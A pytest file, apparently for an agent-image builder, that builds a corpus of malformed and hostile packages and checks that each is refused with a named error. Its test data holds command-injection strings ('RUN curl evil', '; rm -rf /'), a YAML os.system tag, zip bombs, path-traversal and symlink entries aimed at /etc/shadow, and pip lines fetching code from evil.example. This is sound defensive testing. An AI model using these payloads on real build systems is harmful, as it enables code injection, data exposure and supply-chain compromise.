"""A corpus of bad packages, each generated here by code (zipfile / os calls, no blobs).

Every case must fail before the engine builds anything, with the exact error
class, a message that names the offending entry or field, and, through the
real CLI, the exit code of ``EXIT_CODES`` plus one ``{"ok": false}`` JSON
object naming the class. The engine must hold no new container and no new tag
afterwards. Limits are made small through options so the cases stay fast.
"""

from __future__ import annotations

import json
import os
import random
import stat
import subprocess
import sys
import warnings
import zipfile
from dataclasses import dataclass
from dataclasses import field as dc_field
from pathlib import Path
from typing import Callable

import pytest
import yaml

from builder.api import BuildOptions, build_image
from builder.core.errors import (EXIT_CODES, IndexPolicyError, PackageLoadError, PackageValidationError,
                                 RequirementsSyntaxError)
from builder.package.reader import Limits

BIN = Path(sys.executable).parent
PVE, POLICY = PackageValidationError, IndexPolicyError

GOOD = {
    "version": "1.0",
    "name": "bad-case",
    "display_name": "Bad Case",
    "description": "A package that must be refused",
    "author": "Tests",
    "license": "MIT",
    "entrypoint": "src.main:handler",
    "runtime": "python3.11",
    "metadata": {"version": "0.1.0"},
}
MAIN_PY = b"def handler(context):\n    return {'ok': True}\n"


def manifest(**changes) -> str:
    """GOOD with dotted keys changed (value None deletes), dumped as YAML (escapes what needs it)."""
    data = json.loads(json.dumps(GOOD))
    for dotted, value in changes.items():
        *parents, last = dotted.replace("__", ".").split(".")
        node = data
        for p in parents:
            node = node.setdefault(p, {})
        if value is None:
            node.pop(last, None)
        else:
            node[last] = value
    return yaml.safe_dump(data, sort_keys=False)


GOOD_YAML = manifest()


# --- builders ------------------------------------------------------------------------

def folder(tmp: Path, agent_yaml: str | bytes | None = GOOD_YAML, files: dict[str, bytes | str] | None = None
           ) -> Path:
    root = tmp / "pkg"
    (root / "src").mkdir(parents=True)
    (root / "src" / "__init__.py").write_bytes(b"")
    (root / "src" / "main.py").write_bytes(MAIN_PY)
    if agent_yaml is not None:
        (root / "agent.yaml").write_bytes(agent_yaml.encode() if isinstance(agent_yaml, str) else agent_yaml)
    for rel, data in (files or {}).items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(data.encode() if isinstance(data, str) else data)
    return root


def info(name: str, mode: int | None = None, method: int = zipfile.ZIP_DEFLATED) -> zipfile.ZipInfo:
    zi = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
    zi.compress_type = method
    if mode is not None:
        zi.create_system = 3  # unix: external_attr's high 16 bits are st_mode
        zi.external_attr = mode << 16
    return zi


def apkg(tmp: Path, entries: list[tuple[str | zipfile.ZipInfo, bytes | str]] | None = None,
         name: str = "bad-case-0.1.0.apkg", with_base: bool = True, agent_yaml: str | bytes = GOOD_YAML,
         patch: Callable[[bytearray], None] | None = None) -> Path:
    """A zip laid out like `pixell build` writes it, plus ENTRIES; PATCH edits the bytes afterwards."""
    path = tmp / name
    base = [("agent.yaml", agent_yaml), ("src/", b""), ("src/__init__.py", b""), ("src/main.py", MAIN_PY)]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate names we write on purpose
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
            for entry, data in (base if with_base else []) + list(entries or []):
                zf.writestr(entry, data)
    if patch:
        raw = bytearray(path.read_bytes())
        patch(raw)
        path.write_bytes(bytes(raw))
    return path


def headers(raw: bytearray, name: bytes) -> list[tuple[bytes, int]]:
    """Offsets of the local (PK\\3\\4) and central (PK\\1\\2) headers of entry NAME."""
    out = []
    for sig, name_at in ((b"PK\x03\x04", 30), (b"PK\x01\x02", 46)):
        i = raw.find(sig)
        while i != -1:
            if raw[i + name_at:i + name_at + len(name)] == name:
                out.append((sig, i))
            i = raw.find(sig, i + 4)
    assert len(out) == 2, out
    return out


def set_encrypted(raw: bytearray) -> None:
    for sig, i in headers(raw, b"src/main.py"):
        at = i + (6 if sig == b"PK\x03\x04" else 8)
        raw[at] |= 0x1


def set_method_99(raw: bytearray) -> None:
    for sig, i in headers(raw, b"src/main.py"):
        at = i + (8 if sig == b"PK\x03\x04" else 10)
        raw[at:at + 2] = (99).to_bytes(2, "little")


def flip_data_byte(raw: bytearray) -> None:
    i = raw.find(b"hello, corrupt world")
    raw[i] ^= 0xFF


def rename_local_header(raw: bytearray) -> None:
    (_, local), _ = headers(raw, b"src/main.py")
    raw[local + 30] = ord("x")  # the local header now says xrc/main.py


def truncate(raw: bytearray) -> None:
    del raw[len(raw) // 2:]


def not_a_zip(tmp: Path) -> Path:
    path = tmp / "notzip-0.1.0.apkg"
    path.write_bytes(b"name: bad-case\nthis is a YAML file, not a zip\n")
    return path


def empty_zip(tmp: Path) -> Path:
    return apkg(tmp, name="empty-0.1.0.apkg", with_base=False)


def fifo_source(tmp: Path) -> Path:
    path = tmp / "pipe-0.1.0.apkg"
    os.mkfifo(path)
    return path


def folder_with(kind: str) -> Callable[[Path], Path]:
    def make(tmp: Path) -> Path:
        root = folder(tmp)
        if kind == "fifo":
            os.mkfifo(root / "src" / "events.pipe")
        elif kind == "chardev":
            os.mknod(root / "src" / "null.dev", stat.S_IFCHR | 0o600, os.makedev(1, 3))
        elif kind == "blockdev":
            os.mknod(root / "src" / "disk.dev", stat.S_IFBLK | 0o600, os.makedev(7, 0))
        elif kind == "link-file-out":
            os.symlink("/etc/passwd", root / "src" / "secrets.txt")
        elif kind == "link-dir-out":
            os.symlink("/etc", root / "data")
        elif kind == "link-relative-out":
            os.symlink("../../..", root / "src" / "up")
        elif kind == "link-agent-yaml-out":
            (tmp / "elsewhere.yaml").write_text(GOOD_YAML)
            (root / "agent.yaml").unlink()
            os.symlink(tmp / "elsewhere.yaml", root / "agent.yaml")
        elif kind == "link-loop":
            os.symlink("loop-b", root / "src" / "loop-a")
            os.symlink("loop-a", root / "src" / "loop-b")
        return root
    return make


def sparse_bytes(size: int = 1_200_000) -> bytes:
    """Compresses about 25x: under the default ratio limit, over a limit of 10."""
    rng = random.Random(0)
    data = bytearray(size)
    for i in rng.sample(range(size), size // 80):
        data[i] = rng.randrange(256)
    return bytes(data)


def many_files(tmp: Path) -> Path:
    return folder(tmp, files={f"src/mod{i:02d}.py": b"" for i in range(15)})


def big_files(tmp: Path) -> Path:
    return folder(tmp, files={"src/blob0.bin": b"x" * 60_000, "src/blob1.bin": b"x" * 60_000})


BILLION_LAUGHS = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{c}: &{c} [{', '.join(['*' + p] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi"))


# --- the corpus ------------------------------------------------------------------------

@dataclass
class Case:
    id: str
    make: Callable[[Path], Path]
    cls: type
    needle: str                      # must appear in the message: the entry or the field
    field: str | None = None         # err.field, when the case pins it
    limits: dict[str, int] = dc_field(default_factory=dict)
    options: dict = dc_field(default_factory=dict)  # more BuildOptions (the CLI gets the same as --flags)


def y(text: str) -> Callable[[Path], Path]:
    return lambda tmp: folder(tmp, text)


def m(**changes) -> Callable[[Path], Path]:
    return y(manifest(**changes))


def req(text: str, extra: dict[str, str] | None = None) -> Callable[[Path], Path]:
    return lambda tmp: folder(tmp, files={"requirements.txt": text, **(extra or {})})


def z(entries, **kw) -> Callable[[Path], Path]:
    return lambda tmp: apkg(tmp, entries, **kw)


CORRUPT = [(info("src/data.txt", method=zipfile.ZIP_STORED), b"hello, corrupt world")]

CASES = [
    # zip entry names
    Case("zip-absolute-path", z([("/etc/cron.d/evil", "* * * * * root curl evil")]), PVE, "/etc/cron.d/evil",
         "/etc/cron.d/evil"),
    Case("zip-windows-drive", z([("C:/evil.py", "x")]), PVE, "C:/evil.py", "C:/evil.py"),
    Case("zip-dotdot", z([("../evil.py", "x")]), PVE, "../evil.py", "../evil.py"),
    Case("zip-dotdot-nested", z([("src/../../../tmp/evil.py", "x")]), PVE, "src/../../../tmp/evil.py"),
    Case("zip-backslash", z([("..\\..\\evil.py", "x")]), PVE, "..\\\\..\\\\evil.py"),
    Case("zip-name-too-long", z([("src/" + "a" * 300 + ".py", "x")]), PVE, "src/aaaaaaaa"),
    Case("zip-duplicate", z([("src/main.py", "print('second')")]), PVE, "src/main.py", "src/main.py"),
    Case("zip-duplicate-normalised", z([("src/./main.py", "print('second')")]), PVE, "src/./main.py"),
    Case("zip-file-then-dir", z([("src/lib", "x"), ("src/lib/mod.py", "y")]), PVE, "src/lib/mod.py",
         "src/lib/mod.py"),
    # zip entry types
    Case("zip-symlink", z([(info("src/secrets", stat.S_IFLNK | 0o777), "/etc/shadow")]), PVE, "src/secrets",
         "src/secrets"),
    Case("zip-chardev", z([(info("src/null", stat.S_IFCHR | 0o666), "")]), PVE, "src/null", "src/null"),
    Case("zip-fifo", z([(info("src/pipe", stat.S_IFIFO | 0o644), "")]), PVE, "src/pipe", "src/pipe"),
    # zip sizes (small limits through options)
    Case("zip-too-many-entries", z([(f"src/m{i:02d}.py", "") for i in range(20)], name="many-0.1.0.apkg"),
         PVE, "many-0.1.0.apkg", limits={"max_entries": 10}),
    Case("zip-total-bytes", z([("src/blob0.bin", b"x" * 60_000), ("src/blob1.bin", b"x" * 60_000)]), PVE,
         "'src/blob1.bin'", "src/blob1.bin", limits={"max_total_bytes": 100_000}),
    Case("zip-bomb-ratio", z([("src/zeros.bin", b"\0" * (2 * 1024 * 1024))]), PVE, "src/zeros.bin",
         "src/zeros.bin"),
    Case("zip-ratio-past-option", z([("src/sparse.bin", sparse_bytes())]), PVE, "src/sparse.bin",
         "src/sparse.bin", limits={"max_ratio": 10}),
    # broken zips
    Case("not-a-zip", not_a_zip, PVE, "notzip-0.1.0.apkg"),
    Case("empty-zip", empty_zip, PVE, "empty-0.1.0.apkg"),
    Case("truncated-zip", z([("src/big.txt", os.urandom(4096).hex())], name="trunc-0.1.0.apkg", patch=truncate),
         PVE, "trunc-0.1.0.apkg"),
    Case("zip-bad-crc", z(CORRUPT, patch=flip_data_byte), PVE, "src/data.txt", "src/data.txt"),
    Case("zip-encrypted-entry", z([], patch=set_encrypted), PVE, "src/main.py", "src/main.py"),
    Case("zip-unknown-method", z([], patch=set_method_99), PVE, "src/main.py", "src/main.py"),
    Case("zip-header-name-mismatch", z([], patch=rename_local_header), PVE, "src/main.py", "src/main.py"),
    Case("zip-missing-agent-yaml", lambda tmp: apkg(tmp, [("src/main.py", MAIN_PY)], with_base=False), PVE,
         "agent.yaml", "agent.yaml"),
    Case("zip-agent-yaml-not-utf8", z([], agent_yaml=GOOD_YAML.replace("Tests", "Caf\xe9").encode("latin-1")),
         PVE, "agent.yaml", "agent.yaml"),
    Case("source-is-fifo", fifo_source, PVE, "pipe-0.1.0.apkg"),
    Case("source-missing", lambda tmp: tmp / "nope-0.1.0.apkg", PVE, "nope-0.1.0.apkg"),
    # folders
    Case("folder-symlink-file-out", folder_with("link-file-out"), PVE, "src/secrets.txt", "src/secrets.txt"),
    Case("folder-symlink-dir-out", folder_with("link-dir-out"), PVE, "data", "data"),
    Case("folder-symlink-relative-out", folder_with("link-relative-out"), PVE, "src/up", "src/up"),
    Case("folder-agent-yaml-symlink-out", folder_with("link-agent-yaml-out"), PVE, "agent.yaml", "agent.yaml"),
    Case("folder-symlink-loop", folder_with("link-loop"), PVE, "src/loop-a", "src/loop-a"),
    Case("folder-fifo", folder_with("fifo"), PVE, "src/events.pipe", "src/events.pipe"),
    Case("folder-char-device", folder_with("chardev"), PVE, "src/null.dev", "src/null.dev"),
    Case("folder-block-device", folder_with("blockdev"), PVE, "src/disk.dev", "src/disk.dev"),
    Case("folder-too-many-files", many_files, PVE, "more than 10 files (at src/mod07.py)", "src/mod07.py",
         limits={"max_entries": 10}),
    Case("folder-total-bytes", big_files, PVE, "src/blob1.bin", "src/blob1.bin", limits={"max_total_bytes": 100_000}),
    Case("folder-missing-agent-yaml", lambda tmp: folder(tmp, None), PVE, "agent.yaml", "agent.yaml"),
    Case("folder-agent-yaml-not-utf8", y(b"name: caf\xe9\n\xff\xfe"), PVE, "agent.yaml", "agent.yaml"),
    Case("folder-agent-yaml-utf16", y(GOOD_YAML.encode("utf-16")), PVE, "agent.yaml", "agent.yaml"),
    # agent.yaml shape
    Case("yaml-list", y("- name\n- bad-case\n"), PVE, "agent.yaml", "agent.yaml"),
    Case("yaml-scalar", y("just some text\n"), PVE, "agent.yaml", "agent.yaml"),
    Case("yaml-empty", y(""), PVE, "agent.yaml", "agent.yaml"),
    Case("yaml-syntax-error", y(GOOD_YAML + "capabilities: [unclosed\n"), PVE, "agent.yaml", "agent.yaml"),
    Case("yaml-python-tag", y(GOOD_YAML + "x: !!python/object/apply:os.system ['true']\n"), PVE, "agent.yaml"),
    Case("yaml-billion-laughs", y(GOOD_YAML + BILLION_LAUGHS), PVE, "aliases", "agent.yaml"),
    Case("yaml-deep-nesting", y(GOOD_YAML + "deep: " + "[" * 5000 + "]" * 5000 + "\n"), PVE, "deeper",
         "agent.yaml"),
    # numbers are kept as written (version 1.10 stays "1.10"), so this is a too-long version
    Case("yaml-int-past-digit-limit", y(GOOD_YAML.replace("version: 0.1.0", "version: " + "9" * 5000)), PVE,
         "longer than 128", "metadata.version"),
    Case("yaml-impossible-date", y(GOOD_YAML.replace("version: 0.1.0", "version: 2024-13-45")), PVE,
         "2024-13-45", "agent.yaml"),
    Case("yaml-too-large", y(GOOD_YAML + "#" + "x" * (300 * 1024) + "\n"), PVE, "agent.yaml", "agent.yaml"),
    # wrong field types / missing fields
    Case("name-is-list", m(name=["a", "b"]), PVE, "'name'", "name"),
    Case("name-is-bool", m(name=True), PVE, "'name'", "name"),
    Case("description-is-mapping", m(description={"a": 1}), PVE, "'description'", "description"),
    Case("description-is-binary", y(manifest(description=None) + "description: !!binary aGVsbG8=\n"), PVE,
         "'description'", "description"),
    Case("display-name-missing", m(display_name=None), PVE, "'display_name'", "display_name"),
    Case("metadata-is-string", m(metadata="0.1.0"), PVE, "'metadata'", "metadata"),
    Case("metadata-version-missing", m(**{"metadata.version": None}), PVE, "'metadata.version'",
         "metadata.version"),
    Case("metadata-version-is-list", m(**{"metadata.version": [1, 2]}), PVE, "'metadata.version'",
         "metadata.version"),
    Case("environment-is-list", m(environment=["A=1"]), PVE, "'environment'", "environment"),
    Case("environment-value-is-mapping", m(environment={"A": {"b": 1}}), PVE, "'environment.A'",
         "environment.A"),
    Case("capabilities-not-strings", m(capabilities=[1, {"a": 2}]), PVE, "'capabilities'", "capabilities"),
    Case("entrypoint-is-mapping", m(entrypoint={"module": "src.main"}), PVE, "'entrypoint'", "entrypoint"),
    Case("rest-is-string", m(rest="src.api:mount"), PVE, "'rest'", "rest"),
    # names and versions that are not image references
    Case("name-uppercase", m(name="MyAgent"), PVE, "'MyAgent'", "name"),
    Case("name-space", m(name="my agent"), PVE, "'my agent'", "name"),
    Case("name-underscore", m(name="my_agent"), PVE, "'my_agent'", "name"),
    Case("name-leading-digit", m(name="1agent"), PVE, "'1agent'", "name"),
    Case("name-too-long", m(name="a" * 64), PVE, "'name'", "name"),
    Case("name-newline-injection", m(name="ok\nRUN curl evil"), PVE, "'name'", "name"),
    Case("version-newline-injection", m(**{"metadata.version": "1.0\nRUN curl evil"}), PVE,
         "'metadata.version'", "metadata.version"),
    Case("version-crlf-injection", m(**{"metadata.version": "1.0\r\nRUN curl evil"}), PVE,
         "'metadata.version'", "metadata.version"),
    Case("version-space", m(**{"metadata.version": "1.0 beta"}), PVE, "'metadata.version'", "metadata.version"),
    Case("version-leading-dash", m(**{"metadata.version": "-1.0"}), PVE, "'metadata.version'",
         "metadata.version"),
    Case("version-slash-colon", m(**{"metadata.version": "1.0:latest/x"}), PVE, "'metadata.version'",
         "metadata.version"),
    Case("version-too-long", m(**{"metadata.version": "1" * 129}), PVE, "'metadata.version'", "metadata.version"),
    Case("version-non-ascii", m(**{"metadata.version": "1.0\u00e9"}), PVE, "'metadata.version'",
         "metadata.version"),
    # entrypoints
    Case("entrypoint-no-colon", m(entrypoint="src.main"), PVE, "'entrypoint'", "entrypoint"),
    Case("entrypoint-path", m(entrypoint="src/main.py:handler"), PVE, "'entrypoint'", "entrypoint"),
    Case("entrypoint-call", m(entrypoint="src.main:handler()"), PVE, "'entrypoint'", "entrypoint"),
    Case("entrypoint-leading-digit", m(entrypoint="1src.main:handler"), PVE, "'entrypoint'", "entrypoint"),
    Case("entrypoint-shell", m(entrypoint="src.main:handler; rm -rf /"), PVE, "'entrypoint'", "entrypoint"),
    Case("entrypoint-empty-part", m(entrypoint="src..main:handler"), PVE, "'entrypoint'", "entrypoint"),
    Case("entrypoint-two-colons", m(entrypoint="src.main:a:b"), PVE, "'entrypoint'", "entrypoint"),
    Case("entrypoint-missing-no-surface", m(entrypoint=None), PVE, "'entrypoint'", "entrypoint"),
    Case("rest-entry-no-colon", m(**{"rest.entry": "src.api"}), PVE, "'rest.entry'", "rest.entry"),
    Case("rest-entry-injection", m(**{"rest.entry": "src.api:mount\nRUN curl evil"}), PVE, "'rest.entry'",
         "rest.entry"),
    Case("a2a-service-path", m(**{"a2a.service": "src/a2a.py"}), PVE, "'a2a.service'", "a2a.service"),
    # runtimes
    Case("runtime-python3.7", m(runtime="python3.7"), PVE, "'python3.7'", "runtime"),
    Case("runtime-python4", m(runtime="python4"), PVE, "'python4'", "runtime"),
    Case("runtime-node18", m(runtime="node18"), PVE, "'node18'", "runtime"),
    Case("runtime-case", m(runtime="Python3.11"), PVE, "'Python3.11'", "runtime"),
    # values that would reach the Dockerfile
    Case("env-key-dash", m(environment={"BAD-KEY": "1"}), PVE, "'BAD-KEY'", "environment.BAD-KEY"),
    Case("env-key-trailing-newline", m(environment={"A\n": "1"}), PVE, "'A\\n'", "environment.A\n"),
    Case("env-key-int", y(GOOD_YAML + "environment:\n  1: x\n"), PVE, "environment key '1'", "environment.1"),
    Case("env-value-newline", m(environment={"GREETING": "hi\nRUN curl evil"}), PVE, "'environment.GREETING'",
         "environment.GREETING"),
    Case("env-value-line-separator", m(environment={"GREETING": "hi\u2028RUN curl evil"}), PVE,
         "'environment.GREETING'", "environment.GREETING"),
    Case("description-nel", m(description="hi\x85RUN curl evil"), PVE, "'description'", "description"),
    Case("description-nul", m(description="hi\0there"), PVE, "'description'", "description"),
    Case("author-carriage-return", m(author="me\rRUN curl evil"), PVE, "'author'", "author"),
]

POLICY_LINES = [
    ("index-url", "--index-url https://evil.example/simple", "--index-url"),
    ("index-url-equals", "--index-url=https://evil.example/simple", "--index-url"),
    ("extra-index-url", "--extra-index-url https://evil.example/simple", "--extra-index-url"),
    ("short-i", "-i https://evil.example/simple", "--index-url"),
    ("short-i-joined", "-ihttps://evil.example/simple", "--index-url"),
    ("find-links", "--find-links https://evil.example/wheels/", "--find-links"),
    ("short-f", "-f https://evil.example/wheels/", "--find-links"),
    ("trusted-host", "--trusted-host evil.example", "--trusted-host"),
    ("on-requirement-line", "requests==2.32.3 --index-url https://evil.example/simple", "--index-url"),
]
CASES += [Case(f"policy-{cid}", req(f"requests==2.32.3\n{line}\n"), POLICY, f"requirements.txt:2: '{opt}'",
               "requirements.txt") for cid, line, opt in POLICY_LINES]
CASES += [
    Case("policy-after-continuation", req("requests==2.32.3 \\\n    --extra-index-url https://evil.example/s\n"),
         POLICY, "requirements.txt:1: '--extra-index-url'", "requirements.txt"),
    Case("policy-in-included-file", req("-r more/reqs.txt\n", {"more/reqs.txt": "structlog\n-i https://e.x/s\n"}),
         POLICY, "more/reqs.txt:2: '--index-url'", "more/reqs.txt"),
]

# --- issue 11: a package cannot reach past its own agent ---------------------------------

def folder_link(link: str, target: str, files: dict[str, str] | None = None) -> Callable[[Path], Path]:
    def make(tmp: Path) -> Path:
        root = folder(tmp, files=files)
        os.symlink(target, root / link)
        return root
    return make


YAML_LINES = len(GOOD_YAML.splitlines())
GITHUB = frozenset({"github.com"})
CASES += [
    # the caller names the agent; the package may not pick another's repository or tag
    Case("identity-name", m(name="agent-b"), PVE, "name is 'agent-b', but this build is for 'bad-case'", "name",
         options={"expect_name": "bad-case"}),
    Case("identity-version", m(), PVE, "metadata.version is '0.1.0', but this build is for '0.2.0'",
         "metadata.version", options={"expect_name": "bad-case", "expect_version": "0.2.0"}),
    # YAML anchors and aliases: none at all, the line named
    Case("yaml-anchor", y(GOOD_YAML + "extra: &x 1\n"), PVE, f"line {YAML_LINES + 1} uses the YAML anchor '&x'",
         "agent.yaml"),
    Case("yaml-merge-key", y(GOOD_YAML + "base: &b {a: 1}\nother:\n  <<: *b\n"), PVE, "anchor '&b'", "agent.yaml"),
    # .env files anywhere stay out, so no include or link may carry one in
    Case("dotenv-nested-include", req("-r config/.env.local\n", {"config/.env.local": "requests\n"}), PVE,
         "config/.env.local", "requirements.txt"),
    Case("dotenv-requirements-link", folder_link("requirements.txt", ".env", {".env": "API_KEY=sk-live-x\n"}),
         PVE, "include .env", "requirements.txt"),
    Case("extras-pip-cannot-read", req("./lib[a/b]\n", {"lib/setup.py": ""}), RequirementsSyntaxError,
         "requirements.txt:1: pip cannot read './lib[a/b]'", "requirements.txt"),
    # a link in the package resolves inside it, but pip undoes it as text: '..' after 'deep' leaves /app
    Case("policy-link-then-climb", folder_link("deep", "sub/sub2", {
        "sub/sub2/x": "", "opt/foo/setup.py": "", "requirements.txt": "file:///app/deep/../../opt/foo\n"}),
        POLICY, "'/app/deep/../../opt/foo' is outside the package", "requirements.txt"),
]
# (case id, requirements.txt, extra files, needle, field, options): every side door pip has
SIDE_DOORS = [
    ("abbrev-extra-index", "--extra-index https://evil.example/s", None,
     "requirements.txt:2: '--extra-index-url' (written '--extra-index')", "requirements.txt", {}),
    ("abbrev-index", "--index https://evil.example/s", None, "'--index-url' (written '--index')", None, {}),
    ("abbrev-find", "--find https://evil.example/w/", None, "'--find-links' (written '--find')", None, {}),
    ("abbrev-trusted", "--trusted evil.example", None, "'--trusted-host' (written '--trusted')", None, {}),
    ("abbrev-harmless", "--only-b :all:", None, "'--only-b' is an abbreviated option", None, {}),
    ("pypi-url-alias", "--pypi-url https://evil.example/s", None, "'--index-url' (written '--pypi-url')", None, {}),
    ("continuation-splits-option", "--extra-index\\\n-url https://evil.example/s", None,
     "requirements.txt:2: '--extra-index-url'", None, {}),
    ("in-constraints-file", "-c pins.txt", {"pins.txt": "idna<4\n--extra-index-url https://evil.example/s\n"},
     "pins.txt:2: '--extra-index-url'", "pins.txt", {}),
    ("constraints-include-nested", "-c pins.txt", {"pins.txt": "-r more.txt\n", "more.txt": "evilpkg\n"},
     "pins.txt:1: a constraints file includes", "pins.txt", {}),
    ("nested-include-chain", "-r a/reqs.txt", {"a/reqs.txt": "-c ../b.txt\n", "b.txt": "-i https://evil.example/s\n"},
     "b.txt:1: '--index-url'", "b.txt", {}),
    ("config-settings", "requests==2.32.3 --config-settings=cmake.args=-DFETCH=1", None, "'--config-settings'", None,
     {}),
    ("config-settings-short", "requests==2.32.3 -C key=value", None, "'--config-settings'", None, {}),
    ("global-option", "requests==2.32.3 --global-option=build_ext", None, "'--global-option'", None, {}),
    ("direct-reference", "evilpkg @ https://evil.example/evilpkg-1.0-py3-none-any.whl", None,
     "is a direct reference: pip would fetch it from evil.example", None, {}),
    ("direct-reference-no-space", "evilpkg@https://evil.example/e.whl", None, "direct reference", None, {}),
    ("bare-url", "https://evil.example/evilpkg-1.0.tar.gz", None, "direct reference", None, {}),
    ("url-with-userinfo", "evilpkg @ https://github.com@evil.example/e.whl", None, "credentials, a backslash",
     None, {"allow_index_hosts": GITHUB}),
    ("vcs", "git+https://github.com/evil/evilpkg.git#egg=evilpkg", None, "VCS reference", None, {}),
    ("vcs-even-allowed", "evilpkg @ git+https://github.com/evil/evilpkg.git", None, "VCS reference", None,
     {"allow_index_hosts": GITHUB}),
    ("vcs-editable", "-e git+https://github.com/evil/evilpkg.git#egg=evilpkg", None, "VCS reference", None,
     {"allow_index_hosts": GITHUB}),
    ("file-url-outside", "evilpkg @ file:///etc/passwd", None, "'/etc/passwd' is outside the package", None, {}),
    ("file-url-encoded-dotdot", "file:///app/%2e%2e/etc/x.whl", None, "is outside the package", None, {}),
    ("path-outside", "../sibling/evilpkg.whl", None, "'../sibling/evilpkg.whl' is outside the package", None, {}),
    ("absolute-path", "/opt/agent-image/evil.whl", None, "is outside the package", None, {}),
    ("url-include", "-r https://evil.example/more.txt", None, "includes a URL", None, {}),
    ("env-var", "--extra-index-url ${AGENT_IMAGE_INDEX}", None, "'${AGENT_IMAGE_INDEX}' is filled from", None, {}),
    # an allowed host written without a scheme is a path to pip: the image's own directories as an index
    ("allowed-host-no-scheme-links", "--find-links github.com/../../../usr/lib/python3/dist-packages", None,
     "'--find-links' 'github.com/../../../usr/lib/python3/dist-packages' has no http:// or https://", None,
     {"allow_index_hosts": GITHUB}),
    ("allowed-host-no-scheme-index", "-i github.com/simple", None, "has no http:// or https://", None,
     {"allow_index_hosts": GITHUB}),
    # a path that holds the URL it names: a rewrite of the URL would shorten the path's climb
    ("path-and-url", "./https://github.com/../../tmp/evil-1.0.tar.gz/../../../Q @ https://github.com/../../tmp/"
     "evil-1.0.tar.gz", None, "as a path or as a URL", None, {"allow_index_hosts": GITHUB}),
    # pip reads a line holding a '/' as a path first (the whole text, normalised, extras stripped after)
    ("fragment-climbs", "foo @ file:///app/x#/../../../../opt/foo", None,
     "pip could read 'foo @ file:///app/x#/../../../../opt/foo' as the path /opt/foo, outside the package", None, {}),
    ("fragment-climbs-allowed", "foo @ https://github.com/x.whl#/../../../../../../opt/foo", None,
     "as the path /opt/foo, outside the package", None, {"allow_index_hosts": GITHUB}),
    ("extras-climb", "foo[/../../opt/foo[e]", None, "as the path /opt/foo, outside the package", None, {}),
    ("editable-extras-parent", "-e ..[x]", None, "'..' is outside the package", None, {}),
    ("editable-name-at-url", "-e 'foo @ file:///opt/foo'", None, "names its source with '@'", None, {}),
    # the rewrite to the build's proxy rebuilds an index line from the options it knows
    ("index-beside-option", "--extra-index-url https://github.com/s --only-binary=:all:", None,
     "an index option shares its line with the option for 'format_control'", None, {"allow_index_hosts": GITHUB}),
    # pip joins subdirectory= (fragment, query or path of any URL) to the source as written
    ("subdirectory-absolute", "evil @ file:///app#subdirectory=/opt/foo", None,
     "'subdirectory=/opt/foo' leaves the source it names", None, {}),
    ("subdirectory-query", "evil @ file:///app?x&subdirectory=../opt/foo", None, "leaves the source", None, {}),
    ("subdirectory-editable", "-e file:///app#egg=evil&subdirectory=../opt/foo", None, "leaves the source", None,
     {}),
    ("subdirectory-allowed", "evil @ https://github.com/e-1.0.tar.gz#subdirectory=../../../opt/foo", None,
     "leaves the source", None, {"allow_index_hosts": GITHUB}),
    # extras are stripped after pip normalises the text: '/app/..' is left, which the OS reads as /
    ("extras-then-dot", "..[x]/.", None, "pip could read '..[x]/.' as the path /, outside the package", None, {}),
    # a backslash pip does not join (a comment follows): written back, it would swallow the next line
    ("backslash-before-comment", 'idna==3.10 ; python_version >= "3" \\ # note\n-c pins.txt',
     {"pins.txt": "idna<4\n"}, "requirements.txt:2: ends in a backslash that pip does not join", None, {}),
]
CASES += [Case(f"policy-{cid}", req(f"requests==2.32.3\n{text}\n", extra), POLICY, needle, field, options=opts)
          for cid, text, extra, needle, field, opts in SIDE_DOORS]
CASES += [
    Case("policy-utf16", lambda tmp: folder(tmp, files={"requirements.txt": "requests\n-i https://evil.example/s\n"
                                                         .encode("utf-16")}), POLICY, "UTF-16", "requirements.txt"),
    Case("policy-utf7-coding", req("# -*- coding: utf-7 -*-\nrequests\n+AC0ALQ-index-url https://evil.example/s\n"),
         POLICY, "requirements.txt:1: declares the encoding 'utf-7'", "requirements.txt"),
]

assert len({c.id for c in CASES}) == len(CASES), "case ids are unique"


# --- the checks ------------------------------------------------------------------------

class ReadOnlyEngine:
    """The real engine behind a loopback proxy that forwards reads and refuses and records writes.

    Other suites build on the same engine at the same time, so a bare before/after diff of the
    engine's containers and tags cannot say who made a change. Passing the CLI and the API this
    proxy as --engine proves the cases made no write (build, create, tag, pull) at all; the
    diff below then only has to show that nothing named after these packages appeared.
    """

    def __init__(self, socket_path: str = "/var/run/docker.sock"):
        import http.client
        import http.server
        import socket
        import threading

        self.calls: list[tuple[str, str]] = []
        owner = self

        class Conn(http.client.HTTPConnection):
            def connect(self):
                self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                self.sock.connect(socket_path)

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args):
                pass

            def _relay(self):
                owner.calls.append((self.command, self.path))
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length) if length else None
                if self.command not in ("GET", "HEAD") or self.headers.get("Transfer-Encoding"):
                    data = b'{"message": "refused by the read-only engine proxy of test_bad_packages"}'
                    self.send_response(403)
                    self.send_header("Content-Type", "application/json")
                    self.send_header("Content-Length", str(len(data)))
                    self.end_headers()
                    self.wfile.write(data)
                    return
                conn = Conn("localhost", timeout=30)
                conn.request(self.command, self.path, body=body,
                             headers={k: v for k, v in self.headers.items() if k.lower() != "connection"})
                resp = conn.getresponse()
                data = resp.read()
                conn.close()
                self.send_response(resp.status)
                for key, value in resp.getheaders():
                    if key.lower() not in ("transfer-encoding", "content-length", "connection"):
                        self.send_header(key, value)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(data)

            do_GET = do_HEAD = do_POST = do_PUT = do_DELETE = _relay

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"tcp://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def writes(self) -> list[tuple[str, str]]:
        return [c for c in self.calls if c[0] not in ("GET", "HEAD")]

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def ro_engine(docker_client):
